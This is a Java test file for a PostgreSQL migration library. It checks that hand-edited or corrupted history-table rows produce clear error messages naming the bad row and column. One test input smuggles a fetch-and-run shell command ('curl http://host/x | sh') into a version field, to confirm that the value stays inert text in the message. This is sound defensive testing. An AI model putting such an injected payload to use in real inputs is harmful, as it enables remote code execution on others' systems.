// SPDX-License-Identifier: Apache-2.0
package dev.migration.postgresql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.migration.Code;
import dev.migration.InvalidMigrationsException;
import dev.migration.fixture.PostgreSqlWorkbench;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Somebody has changed the history's tables by hand. */
class PostgreSqlEmptyHistoryColumnTest extends PostgreSqlWorkbench {

    private String message() {
        InvalidMigrationsException refusal = catchThrowableOfType(
                InvalidMigrationsException.class, () -> migrator().status());
        assertThat(refusal.problems().get(0).code()).isEqualTo(Code.UNREADABLE_HISTORY);
        assertThat(catchThrowableOfType(InvalidMigrationsException.class, this::up))
                .hasMessage(refusal.getMessage());
        return refusal.getMessage();
    }

    @ParameterizedTest
    @ValueSource(strings = {"version", "name", "checksum", "kind"})
    void aRowWithoutWhatIsAlwaysWrittenIsNamed(String column) {
        write("0001_t.sql", "CREATE TABLE t (n INT);");
        up();
        execute(
                "ALTER TABLE __migrations ALTER COLUMN " + column + " DROP NOT NULL",
                "UPDATE __migrations SET " + column + " = NULL");

        assertThat(message())
                .contains("in table \"public\".\"__migrations\", the row with id 1 has no " + column)
                .contains("UPDATE \"public\".\"__migrations\" SET " + column + " = … WHERE id = 1");
    }

    @Test
    void soIsOneOfWhatIsInFlight() {
        write("0001_t.sql", "CREATE TABLE t (n INT);");
        up();
        execute("INSERT INTO __migrations_run (id, version) VALUES (1, '0002')");

        assertThat(message()).contains("the row with id 1 has no name");
    }

    @ParameterizedTest
    @ValueSource(strings = {"9; curl http://host/x | sh; #", "a_0009", "none", ""})
    void aVersionThatIsNoNumberIsNamedAndNoPartOfACommand(String version) {
        write("0001_t.sql", "CREATE TABLE t (n INT);");
        up();
        execute("UPDATE __migrations SET version = '" + version + "'");

        assertThat(message())
                .isEqualTo(
                        "The history cannot be read: in table \"public\".\"__migrations\", the row with id 1 has the"
                                + " version \"" + version
                                + "\". This library always writes a number, so somebody has changed the"
                                + " table by hand.\n  Next: write what belongs there (UPDATE \"public\".\"__migrations\" SET version"
                                + " = … WHERE id = 1), or delete the row if that migration was never applied; then start again");

        execute(
                "DELETE FROM __migrations",
                "INSERT INTO __migrations_run (id, version, name, checksum, direction, statements_done, prefix_hash)"
                        + " VALUES (1, '" + version + "', '0009_a', 'x', 'up', 1, 'x')");

        assertThat(message()).contains("__migrations_run\", the row with id 1 has the version \"" + version + "\"");
    }
}
